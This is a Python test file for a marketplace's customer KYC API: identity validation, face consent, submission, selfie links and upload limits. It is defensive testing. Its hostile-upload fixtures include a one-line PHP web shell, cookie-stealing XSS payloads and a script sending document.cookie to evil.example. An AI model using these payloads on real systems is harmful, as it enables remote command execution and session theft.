"""The customer's side of KYC over HTTP: status, identity data, consented uploads, hostile files, submit,
re-verification, resubmission requests, the own-selfie link and the upload rate limit.

Pipeline details (every decoder, every mutation) are tested in tests/test_images.py; here each hostile file
goes through the real API route and we check the answer code and that nothing at all was stored.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
import time_machine
from flask.testing import FlaskClient
from PIL import Image
from sqlalchemy import select

from marketplace.audit import AuditEvent
from marketplace.extensions import db, utcnow
from marketplace.kyc import service as kyc
from marketplace.notifications.models import Channel, OutboxMessage
from marketplace.permissions import Role
from marketplace.users.service import business_today
from marketplace.vault import service as vault
from marketplace.vault.models import Blob
from tests.conftest import drain_jobs
from tests.factories import actor_for, auth_headers, make_customer, make_staff
from tests.kyc.helpers import (
    approve_case,
    blob_files,
    emirates_id,
    give_face_consent,
    identity_body,
    latest_case,
    photo,
    submitted_case,
    upload,
    upload_in_memory,
)
from tests.staff_web import db_snapshot

KYC = "/api/v1/me/kyc"
IDENTITY = "/api/v1/me/kyc/identity"
SUBMIT = "/api/v1/me/kyc/submit"
REVERIFY = "/api/v1/me/kyc/reverify"
SELFIE_LINK = "/api/v1/me/selfie"
REQUIRED_FOR_EMIRATES_ID = ["selfie", "id_front", "licence_front", "licence_back", "id_back"]


def code(response: Any) -> str:
    return str(response.get_json()["error"]["code"])


def customer_headers(client: FlaskClient) -> tuple[Any, dict[str, str]]:
    person = make_customer()
    return person, auth_headers(client, person)


# ---- status and identity data (P-05) -------------------------------------------------------------


def test_status_before_anything_lists_everything_missing(app, client, app_ctx):  # enforces P-05
    _, headers = customer_headers(client)
    body = client.get(KYC, headers=headers).get_json()
    assert body["status"] == "not_started"
    assert body["identity"] is None and body["uploaded"] == [] and body["resubmit_items"] == []
    assert body["missing"] == ["identity", "selfie", "id_front", "licence_front", "licence_back"]
    response = client.get(KYC, headers=headers)
    assert response.headers["Cache-Control"].startswith("no-store")  # PV-05


def test_identity_is_stored_normalised_and_drives_the_missing_list(app, client, app_ctx):  # enforces P-05
    _, headers = customer_headers(client)
    body = identity_body(legal_name="  Customer   Number  One ", licence_number="dxb-778899", licence_issuer="ae-du",
                         nationality="ae")
    response = client.put(IDENTITY, headers=headers, json=body)
    assert response.status_code == 200, response.get_json()
    status = response.get_json()
    assert status["status"] == "draft"
    assert status["identity"] == {
        "legal_name": "Customer Number One", "date_of_birth": "1990-05-17", "nationality": "AE",
        "id_document_type": "emirates_id", "id_document_number": body["id_document_number"],
        "id_document_expiry": body["id_document_expiry"], "licence_number": "DXB-778899",
        "licence_issuer": "AE-DU", "licence_expiry": body["licence_expiry"], "licence_category": "B",
    }
    # an Emirates ID has a back side to photograph; a passport has not
    assert status["missing"] == REQUIRED_FOR_EMIRATES_ID
    passport = client.put(IDENTITY, headers=headers, json=identity_body(id_document_type="passport",
                                                                        id_document_number="p1234567"))
    assert passport.status_code == 200, passport.get_json()
    assert passport.get_json()["identity"]["id_document_number"] == "P1234567"
    assert passport.get_json()["missing"] == ["selfie", "id_front", "licence_front", "licence_back"]


def _past(days: int) -> str:
    return (date.today() - timedelta(days=days)).isoformat()


def _years_ago(years: int, days: int = 0) -> date:
    today = business_today()  # ages are counted on the Dubai calendar
    try:
        return today.replace(year=today.year - years) + timedelta(days=days)
    except ValueError:  # 29 February
        return today.replace(year=today.year - years, day=28) + timedelta(days=days)


@pytest.mark.parametrize(
    ("overrides", "expected"),
    [
        ({"licence_expiry": _past(1)}, ("validation_error", "licence_expiry")),
        ({"id_document_expiry": _past(30)}, ("validation_error", "id_document_expiry")),
        ({"id_document_type": "driving_permit"}, ("validation_error", "id_document_type")),
        ({"id_document_number": "784199012345671"}, ("validation_error", "id_document_number")),  # no dashes
        ({"id_document_number": "784-1990-123456-7"}, ("validation_error", "id_document_number")),  # too short
        # right shape, wrong Luhn check digit
        ({"id_document_number": emirates_id(1990)[:-1] + str((int(emirates_id(1990)[-1]) + 1) % 10)},
         ("validation_error", "id_document_number")),
        ({"id_document_number": emirates_id(1991)}, ("validation_error", "id_document_number")),  # year != birth year
        ({"id_document_type": "passport", "id_document_number": "AB12"}, ("validation_error", "id_document_number")),
        ({"id_document_type": "passport", "id_document_number": "AB-123456"},
         ("validation_error", "id_document_number")),
        ({"licence_issuer": "Dubai"}, ("validation_error", "licence_issuer")),
        ({"licence_number": "x"}, ("validation_error", "licence_number")),
        ({"nationality": "ARE"}, ("validation_error", "nationality")),
        ({"date_of_birth": "1990-02-30"}, ("validation_error", "date_of_birth")),
        ({"kyc_status": "approved"}, ("unknown_field", "kyc_status")),  # AZ-08: no mass assignment
        ({"status": "approved"}, ("unknown_field", "status")),
    ],
)
def test_invalid_identity_is_refused_and_nothing_is_stored(app, client, app_ctx, overrides,
                                                          expected):  # enforces P-05, AZ-08
    expected_code, field = expected
    _, headers = customer_headers(client)
    before = db_snapshot(app)
    response = client.put(IDENTITY, headers=headers, json=identity_body(**overrides))
    assert response.status_code == 422
    error = response.get_json()["error"]
    assert error["code"] == expected_code
    assert field in error["details"]["fields"]
    if expected_code == "unknown_field":
        assert error["details"]["unknown"] == [field]
    assert db_snapshot(app) == before  # not even a draft case


def test_under_21_is_refused_on_the_day(app, client, app_ctx):  # enforces P-01, P-05
    _, headers = customer_headers(client)
    young = _years_ago(21, days=1)  # 21 tomorrow
    body = identity_body(date_of_birth=young.isoformat(), id_document_type="passport",
                         id_document_number="P7654321")
    response = client.put(IDENTITY, headers=headers, json=body)
    assert response.status_code == 422
    assert code(response) == "validation_error"
    assert "date_of_birth" in response.get_json()["error"]["details"]["fields"]
    exactly_21 = _years_ago(21)
    body["date_of_birth"] = exactly_21.isoformat()
    assert client.put(IDENTITY, headers=headers, json=body).status_code == 200


def test_identity_must_be_json(app, client, app_ctx):  # IN-05
    _, headers = customer_headers(client)
    response = client.put(IDENTITY, headers=headers, data="legal_name=x",
                          content_type="application/x-www-form-urlencoded")
    assert response.status_code == 415
    assert code(response) == "unsupported_media_type"


def test_identity_is_frozen_once_submitted(app, client, app_ctx):  # enforces P-07
    _, headers = customer_headers(client)
    submitted_case(client, headers)
    response = client.put(IDENTITY, headers=headers, json=identity_body(licence_category="C"))
    assert response.status_code == 409
    assert code(response) == "reverification_required"


# ---- consent before the selfie (P-06) -------------------------------------------------------------


def test_withdrawn_face_consent_blocks_the_selfie_but_not_documents(app, client, app_ctx):  # enforces P-06
    _, headers = customer_headers(client)
    give_face_consent(client, headers)
    assert client.delete("/api/v1/me/consents/face_data", headers=headers).status_code == 204
    before = db_snapshot(app)
    response = upload(client, headers, "selfie")
    assert response.status_code == 403
    assert code(response) == "consent_required"
    assert db_snapshot(app) == before
    assert upload(client, headers, "id_front").status_code == 201  # documents need no face consent

    give_face_consent(client, headers)
    assert upload(client, headers, "selfie").status_code == 201
    status = client.get(KYC, headers=headers).get_json()
    assert status["face_consent_version"] is not None
    assert status["uploaded"] == ["selfie", "id_front"]


# ---- hostile uploads (UP-01..UP-05, IN-01; enforces P-08) -------------------------------------------


def _encode(image: Image.Image, fmt: str, **params: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def _apng() -> bytes:
    frames = [Image.new("RGB", (32, 32), colour) for colour in ((255, 0, 0), (0, 0, 255))]
    return _encode(frames[0], "PNG", save_all=True, append_images=frames[1:])


def _animated_gif() -> bytes:
    frames = [Image.new("P", (32, 32), n) for n in (1, 2, 3)]
    return _encode(frames[0], "GIF", save_all=True, append_images=frames[1:])


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.php", "<?php system($_GET['c']); ?>")
    return out.getvalue()


def _png_bad_crc() -> bytes:
    data = bytearray(_encode(Image.new("RGB", (16, 16), (9, 9, 9)), "PNG"))
    at = data.index(b"IDAT")
    (length,) = struct.unpack_from(">I", data, at - 4)
    data[at + 4 + length] ^= 0xFF  # first byte of the IDAT CRC
    assert zlib.crc32(bytes(data[at:at + 4 + length])) != struct.unpack_from(">I", data, at + 4 + length)[0]
    return bytes(data)


JPEG = photo(400, 300)
HOSTILE: dict[str, tuple[Callable[[], bytes], str, int, str]] = {
    # name: (bytes, declared Content-Type, expected status, expected code)
    "pdf renamed .jpg": (lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n", "image/jpeg", 415,
                         "unsupported_media_type"),
    "html renamed .jpg": (lambda: b"<!doctype html><html><script>alert(document.cookie)</script></html>",
                          "image/jpeg", 415, "unsupported_media_type"),
    "svg renamed .jpg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/jpeg", 415,
                         "unsupported_media_type"),
    "zip renamed .jpg": (_zip, "image/jpeg", 415, "unsupported_media_type"),
    "png declared as jpeg": (lambda: _encode(Image.new("RGB", (40, 40)), "PNG"), "image/jpeg", 415,
                             "unsupported_media_type"),
    "animated gif": (_animated_gif, "image/gif", 415, "unsupported_media_type"),
    "animated png": (_apng, "image/png", 422, "image_invalid"),
    "16-bit png": (lambda: _encode(Image.new("I;16", (48, 48), 40000), "PNG"), "image/png", 422, "image_invalid"),
    "truncated jpeg": (lambda: JPEG[: len(JPEG) // 2], "image/jpeg", 422, "image_invalid"),
    "truncated png": (lambda: _encode(Image.new("RGB", (64, 64), (1, 2, 3)), "PNG")[:-20], "image/png", 422,
                      "image_invalid"),
    "png with a bad crc": (_png_bad_crc, "image/png", 422, "image_invalid"),
    "empty file": (lambda: b"", "image/jpeg", 422, "image_invalid"),
    "random bytes": (lambda: bytes(range(7, 250)) * 8, "image/jpeg", 422, "image_invalid"),
    "jpeg frame header of 60000x60000": (
        lambda: JPEG.replace(b"\xff\xc0\x00\x11\x08\x01\x2c\x01\x90", b"\xff\xc0\x00\x11\x08\xea\x60\xea\x60", 1),
        "image/jpeg", 422, "image_too_large"),
    # over the pipeline's 15 MiB but under MAX_CONTENT_LENGTH: refused while reading, before sniffing
    "16 MiB upload": (lambda: JPEG + b"\x00" * (16 * 1024 * 1024), "image/jpeg", 413, "payload_too_large"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_document_is_refused_and_nothing_is_stored(app, client, app_ctx, name):  # UP-02, UP-05, P-08
    # the pixel flood (UP-01) is in test_privacy.py, where it also proves no pixel was decoded
    data_factory, declared, status, expected = HOSTILE[name]
    payload = data_factory()
    if name.startswith("jpeg frame"):
        assert payload != JPEG  # the frame header was found and rewritten
    _, headers = customer_headers(client)
    before, files_before = db_snapshot(app), blob_files(app)
    response = upload_in_memory(client, headers, "id_front", payload, content_type=declared)
    assert response.status_code == status, response.get_json()
    assert code(response) == expected
    assert db_snapshot(app) == before  # no blob row, no data key, no case, no audit row
    assert blob_files(app) == files_before  # no file written


@pytest.mark.parametrize("name", ["html renamed .jpg", "16-bit png", "truncated jpeg"])
def test_hostile_selfie_is_refused_the_same_way(app, client, app_ctx, name):  # UP-02, UP-05, P-08
    data_factory, declared, status, expected = HOSTILE[name]
    _, headers = customer_headers(client)
    give_face_consent(client, headers)
    before, files_before = db_snapshot(app), blob_files(app)
    response = upload_in_memory(client, headers, "selfie", data_factory(), content_type=declared)
    assert (response.status_code, code(response)) == (status, expected)
    assert db_snapshot(app) == before
    assert blob_files(app) == files_before


def test_body_over_the_request_limit_is_refused_before_the_view(app, client, app_ctx, monkeypatch):  # IN-01
    _, headers = customer_headers(client)
    calls: list[str] = []
    monkeypatch.setattr(kyc, "upload", lambda *a, **k: calls.append("upload"))
    limit = app.config["MAX_CONTENT_LENGTH"]
    before, files_before = db_snapshot(app), blob_files(app)
    response = upload_in_memory(client, headers, "id_front", JPEG + b"\x00" * limit)
    assert response.status_code == 413
    assert code(response) == "payload_too_large"
    assert calls == []
    assert db_snapshot(app) == before
    assert blob_files(app) == files_before


def test_script_appended_to_a_jpeg_is_stored_without_it(app, client, app_ctx):  # UP-03, enforces P-08
    # A valid picture with a payload after its end is accepted, but only as a fresh re-encode of its pixels
    payload = b"<script>fetch('//evil.example/'+document.cookie)</script>"
    _, headers = customer_headers(client)
    response = upload(client, headers, "id_front", JPEG + payload)
    assert response.status_code == 201, response.get_json()
    blob = db.session.execute(select(Blob).where(Blob.public_id == response.get_json()["id"])).scalar_one()
    stored = vault.read(blob)
    assert stored.startswith(b"\xff\xd8\xff") and payload not in stored and b"<script" not in stored
    assert stored != JPEG


@pytest.mark.parametrize("route", ["/api/v1/me/kyc/selfie", "/api/v1/me/kyc/documents"])
def test_json_body_to_an_upload_route_is_refused(app, client, app_ctx, route):  # IN-05
    _, headers = customer_headers(client)
    give_face_consent(client, headers)
    response = client.post(route, headers=headers, json={"kind": "id_front", "image": "aGVsbG8="})
    assert response.status_code == 415
    assert code(response) == "unsupported_media_type"


def test_upload_needs_a_file_and_a_known_kind(app, client, app_ctx):  # IN-02, enforces P-07
    _, headers = customer_headers(client)
    no_file = client.post("/api/v1/me/kyc/documents", headers=headers, data={"kind": "id_front"},
                          content_type="multipart/form-data")
    assert no_file.status_code == 422 and "image" in no_file.get_json()["error"]["details"]["fields"]
    bad_kind = upload(client, headers, "selfie_of_my_cat")
    assert bad_kind.status_code == 422 and "kind" in bad_kind.get_json()["error"]["details"]["fields"]


# ---- submit -----------------------------------------------------------------------------------------


def test_submit_incomplete_lists_exactly_what_is_missing(app, client, app_ctx):  # enforces P-07
    person, headers = customer_headers(client)
    give_face_consent(client, headers)
    assert upload(client, headers, "selfie").status_code == 201
    response = client.post(SUBMIT, headers=headers)
    assert response.status_code == 422
    assert code(response) == "kyc_incomplete"
    assert response.get_json()["error"]["details"]["missing"] == ["identity", "id_front", "licence_front",
                                                                  "licence_back"]
    assert client.put(IDENTITY, headers=headers, json=identity_body()).status_code == 200
    assert upload(client, headers, "licence_front").status_code == 201
    response = client.post(SUBMIT, headers=headers)
    assert response.get_json()["error"]["details"]["missing"] == ["id_front", "licence_back", "id_back"]
    assert latest_case(person.user_id).status == "draft"


def test_submit_needs_a_case(app, client, app_ctx):  # enforces P-09
    _, headers = customer_headers(client)
    response = client.post(SUBMIT, headers=headers)
    assert response.status_code == 404
    assert code(response) == "not_found"


def test_submitting_twice_is_an_illegal_transition(app, client, app_ctx):  # enforces P-09
    _, headers = customer_headers(client)
    status = submitted_case(client, headers)
    assert status["status"] == "submitted" and status["missing"] == []
    response = client.post(SUBMIT, headers=headers)
    assert response.status_code == 409
    assert code(response) == "illegal_state_transition"


# ---- one selfie; a replacement needs re-verification (P-07) ---------------------------------------------


def test_second_selfie_after_submit_needs_reverification(app, client, app_ctx):  # enforces P-07
    person, headers = customer_headers(client)
    submitted_case(client, headers)
    case = latest_case(person.user_id)
    first_selfie = case.selfie_blob_id
    before, files_before = db_snapshot(app), blob_files(app)
    for kind in ("selfie", "id_front"):
        response = upload(client, headers, kind)
        assert response.status_code == 409
        assert code(response) == "reverification_required"
    assert db_snapshot(app) == before
    assert blob_files(app) == files_before
    # while the case waits for its reviewer, it cannot be restarted either
    assert client.post(REVERIFY, headers=headers).status_code == 409

    approve_case(person.user_id)
    assert upload(client, headers, "selfie").status_code == 409
    response = client.post(REVERIFY, headers=headers)
    assert response.status_code == 200, response.get_json()
    fresh = response.get_json()
    assert fresh["status"] == "draft" and fresh["uploaded"] == []
    assert "selfie" in fresh["missing"]
    response = upload(client, headers, "selfie", photo(colour=(20, 200, 20)))
    assert response.status_code == 201, response.get_json()
    new_case = latest_case(person.user_id)
    assert new_case.selfie_blob_id not in (None, first_selfie)
    # the approved selfie is kept (it belongs to the superseded, approved case) and bookings wait again
    with pytest.raises(kyc.KycRequired) as caught:
        kyc.ensure_cleared_to_drive(person.user(), utcnow() + timedelta(days=2))
    assert "kyc_not_approved" in caught.value.details["reasons"]


# ---- resubmission requested (P-09) -----------------------------------------------------------------


def test_resubmission_request_names_exactly_what_to_send_and_empties_those_slots(app, client, app_ctx):  # P-09
    person, headers = customer_headers(client)
    submitted_case(client, headers)
    reviewer = actor_for(make_staff(Role.KYC_REVIEWER))
    case = latest_case(person.user_id)
    kept = {"id_front": case.id_front_blob_id, "id_back": case.id_back_blob_id, "selfie": case.selfie_blob_id}
    kyc.claim(reviewer, case)
    kyc.decide(reviewer, case, decision="request_resubmission", reason_code="blurry_image", note="glare on licence",
               items=["licence_front", "licence_back", "not_a_slot"])
    db.session.commit()
    drain_jobs(app)

    status = client.get(KYC, headers=headers).get_json()
    assert status["status"] == "resubmission_requested"
    assert status["reason"] == "blurry_image"
    assert status["resubmit_items"] == ["licence_front", "licence_back"]
    assert status["missing"] == ["licence_front", "licence_back"]
    assert status["uploaded"] == ["selfie", "id_front", "id_back"]
    case = latest_case(person.user_id)
    assert (case.licence_front_blob_id, case.licence_back_blob_id) == (None, None)
    assert {"id_front": case.id_front_blob_id, "id_back": case.id_back_blob_id, "selfie": case.selfie_blob_id} == kept

    # told in the app and by e-mail, naming exactly the two licence sides, never the internal note
    notices = client.get("/api/v1/me/notifications", headers=headers).get_json()["items"]
    assert [n["kind"] for n in notices] == ["kyc_resubmission"]
    emails = db.session.execute(select(OutboxMessage).where(OutboxMessage.user_id == person.user_id,
                                                            OutboxMessage.channel == Channel.EMAIL)).scalars().all()
    assert [e.kind for e in emails] == ["kyc_resubmission"]
    assert emails[0].status == "kept"  # delivered to the outbox (no SMTP in tests)
    for body in (notices[0]["body"], emails[0].body_text):
        assert "the front of your driving licence" in body and "the back of your driving licence" in body
        assert "selfie" not in body and "ID document" not in body
        assert "blurry image" in body and "glare" not in body

    # send the two images again and resubmit
    assert client.post(SUBMIT, headers=headers).get_json()["error"]["details"]["missing"] == [
        "licence_front", "licence_back"]
    for kind in ("licence_front", "licence_back"):
        assert upload(client, headers, kind).status_code == 201
    response = client.post(SUBMIT, headers=headers)
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["status"] == "submitted"
    assert response.get_json()["resubmit_items"] == [] and response.get_json()["reason"] is None


# ---- the customer's own selfie link (P-11, AZ-03, PV-05) ---------------------------------------------


def test_own_selfie_link_is_single_use_short_lived_and_never_cached(app, client, app_ctx):  # enforces P-11
    _, headers = customer_headers(client)
    give_face_consent(client, headers)
    uploaded = photo(colour=(200, 30, 30))
    assert upload(client, headers, "selfie", uploaded).status_code == 201

    link = client.get(SELFIE_LINK, headers=headers)
    assert link.status_code == 200
    body = link.get_json()
    assert body["url"].startswith("/api/v1/images/img_")
    expires = datetime.fromisoformat(body["expires_at"])
    assert timedelta(seconds=50) <= expires - datetime.now(UTC) <= timedelta(seconds=61)
    assert link.headers["Cache-Control"].startswith("no-store")

    image = client.get(body["url"], headers=headers)
    assert image.status_code == 200
    assert image.mimetype == "image/jpeg" and image.data.startswith(b"\xff\xd8\xff")
    assert "no-store" in image.headers["Cache-Control"]
    assert image.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in image.headers["Content-Security-Policy"]
    assert image.headers["Content-Disposition"].startswith("inline")
    assert image.data != uploaded  # a re-encode, never the uploaded bytes

    again = client.get(body["url"], headers=headers)
    assert again.status_code == 404 and code(again) == "not_found"  # single use

    late = client.get(SELFIE_LINK, headers=headers).get_json()["url"]
    with time_machine.travel(datetime.now(UTC) + timedelta(seconds=61)):
        expired = client.get(late, headers=headers)
    assert expired.status_code == 404 and code(expired) == "not_found"


def test_selfie_link_before_any_selfie_is_not_found(app, client, app_ctx):  # enforces P-11
    _, headers = customer_headers(client)
    response = client.get(SELFIE_LINK, headers=headers)
    assert response.status_code == 404 and code(response) == "not_found"


def test_another_customer_cannot_use_the_link(app, client, app_ctx):  # AZ-03, enforces P-11
    _, owner_headers = customer_headers(client)
    _, other_headers = customer_headers(client)
    give_face_consent(client, owner_headers)
    assert upload(client, owner_headers, "selfie").status_code == 201
    url = client.get(SELFIE_LINK, headers=owner_headers).get_json()["url"]

    stolen = client.get(url, headers=other_headers)
    never = client.get("/api/v1/images/img_" + "A" * 43, headers=other_headers)
    assert stolen.status_code == never.status_code == 404
    strip = lambda r: {**r.get_json()["error"], "request_id": None}  # noqa: E731
    assert strip(stolen) == strip(never)  # indistinguishable from a link that never existed
    assert client.get(url).status_code == 401  # and nobody without a sign-in: there is no public URL
    # B's attempt did not spend A's link
    assert client.get(url, headers=owner_headers).status_code == 200
    # B has no selfie of their own to ask for, and cannot reach A's by any id
    assert client.get(SELFIE_LINK, headers=other_headers).status_code == 404


# ---- upload rate limit (UP-07) ------------------------------------------------------------------------


def test_uploads_are_rate_limited_per_session(app, client, app_ctx):  # UP-07
    person, headers = customer_headers(client)
    limit = int(app.config["SETTINGS"].limits["upload_session"].split()[0])
    small = photo(64, 48)
    for _ in range(limit):
        assert upload(client, headers, "id_front", small).status_code == 201
    files_before = blob_files(app)
    blocked = upload(client, headers, "id_front", small)
    assert blocked.status_code == 429
    assert code(blocked) == "rate_limited"
    assert int(blocked.headers["Retry-After"]) > 0
    assert blob_files(app) == files_before
    # replaced drafts do not pile up: only the last upload is kept
    live = db.session.execute(select(Blob).where(Blob.user_id == person.user_id, Blob.deleted_at.is_(None))).all()
    assert len(live) == 1
    uploads = db.session.execute(select(AuditEvent).where(AuditEvent.action == "kyc:upload")).all()
    assert len(uploads) == limit


def test_upload_rate_is_per_person_not_per_session(app, client, app_ctx, monkeypatch):  # UP-07
    """Signing in again does not buy a fresh quota: the limit counts the person's uploads."""
    from marketplace.extensions import limiter

    person, first = customer_headers(client)
    monkeypatch.setattr(kyc, "UPLOADS_PER_MINUTE", 3)
    small = photo(64, 48)
    for _ in range(2):
        assert upload(client, first, "id_front", small).status_code == 201
    second = auth_headers(client, person)  # a new session
    assert upload(client, second, "id_back", small).status_code == 201
    limiter.reset()  # only the per-person rule is left to stop the next one
    blocked = upload(client, second, "licence_front", small)
    assert blocked.status_code == 429 and code(blocked) == "rate_limited"


def test_stored_bytes_are_capped_per_person(app, client, app_ctx, monkeypatch):  # UP-07
    person, headers = customer_headers(client)
    assert upload(client, headers, "id_front", photo(640, 480)).status_code == 201
    stored = db.session.execute(select(Blob.size).where(Blob.user_id == person.user_id)).scalar_one()
    monkeypatch.setattr(kyc, "STORED_BYTES_PER_USER", stored)
    files_before = blob_files(app)
    refused = upload(client, headers, "id_back", photo(640, 480))
    assert refused.status_code == 413 and code(refused) == "payload_too_large"
    assert blob_files(app) == files_before


def test_webp_selfie_is_accepted_and_stored_as_a_clean_jpeg(app, client, app_ctx):  # enforces P-08
    person, headers = customer_headers(client)
    give_face_consent(client, headers)
    response = upload(client, headers, "selfie", photo(1080, 1440, fmt="WEBP"), content_type="image/webp")
    assert response.status_code == 201, response.get_json()
    blob = db.session.execute(select(Blob).where(Blob.user_id == person.user_id)).scalar_one()
    stored = vault.read(blob)
    assert stored[:3] == b"\xff\xd8\xff"


def test_animated_webp_is_refused(app, client, app_ctx):
    _, headers = customer_headers(client)
    frames = [Image.new("RGB", (64, 64), c) for c in ((255, 0, 0), (0, 255, 0))]
    out = io.BytesIO()
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], duration=100)
    response = upload(client, headers, "id_front", out.getvalue(), content_type="image/webp")
    assert response.status_code == 422
    assert code(response) == "image_invalid"
